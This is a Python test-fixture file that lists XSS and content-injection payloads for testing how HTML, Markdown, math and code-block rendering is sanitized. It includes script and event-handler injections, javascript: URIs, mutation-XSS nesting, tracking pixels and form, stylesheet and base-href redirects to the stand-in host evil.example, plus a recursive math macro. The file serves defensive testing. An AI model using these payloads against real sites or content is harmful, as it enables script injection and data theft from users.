"""Text that tries to be more than text. Each would set `stolen`, or ask evil.example for something."""

from __future__ import annotations

DO = "globalThis.stolen = 1; alert(1)"
TITLE = f"</title><script>{DO}</script><img src=x onerror='{DO}'>"

HTML = [
    f"<script>{DO}</script>",
    f"<img src=x onerror='{DO}'>",
    f"<svg/onload='{DO}'>",
    f"<iframe srcdoc='<script>parent.{DO}</script>'></iframe>",
    "<iframe src='javascript:parent.stolen=1'></iframe>",
    f"<details open ontoggle='{DO}'><summary>x</summary></details>",
    f"<input autofocus onfocus='{DO}'>",
    "<form action='https://evil.example/'><input name=a><button>go</button></form>",
    "<object data='https://evil.example/x.svg'></object>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>@import 'https://evil.example/x.css'; body { background: url(https://evil.example/x) }</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href='https://evil.example/'>",
    f"<math><mtext><table><mglyph><style><img src=x onerror='{DO}'></style></mglyph></table></mtext></math>",
    f"<noscript><p title=\"</noscript><img src=x onerror='{DO}'>\"></noscript>",
    f"<a href='java&#x09;script:{DO}'>x</a>",
    f"<template><script>{DO}</script></template>",
    f"--><!-- ---> <img src=x onerror='{DO}'> -->",
]
MARKDOWN = [
    "[x](javascript:globalThis.stolen=1)",
    "[x](JaVaScRiPt:globalThis.stolen=1)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:alert(1))",
    "<javascript:alert(1)>",
    "![x](https://evil.example/pixel.png)",
    '![x](x"onerror="globalThis.stolen=1)',
    "[x](https://evil.example/ \"onmouseover='globalThis.stolen=1'\")",
    "[![x](https://evil.example/a.png)](https://evil.example/b)",
    "[x]: https://evil.example/ref\n\n![x]",
    "www.evil.example",
]
MATH = [
    r"$$\href{javascript:globalThis.stolen=1}{x}$$",
    r"$$\url{javascript:alert(1)}$$",
    r"$$\includegraphics{https://evil.example/x.png}$$",
    r"$$\htmlData{x=1}{y}\htmlStyle{background:url(https://evil.example/x)}{z}$$",
    r"$\text{<img src=x onerror=globalThis.stolen=1>}$",
    r"$$\def\a{\a\a}\a$$",
]
CODE = [
    f"```html\n<script>{DO}</script>\n```",
    f"```\"><img/src=x onerror='{DO}'>\nx\n```",
    f"```python\n'''</code></pre><img src=x onerror='{DO}'>'''\n```",
    f"`<img src=x onerror='{DO}'>`",
    f"| <img src=x onerror='{DO}'> |\n|-|\n| <script>{DO}</script> |",
]
MESSAGES = ["\n\n".join(group) for group in (HTML, MARKDOWN, MATH, CODE)] + HTML[:3]
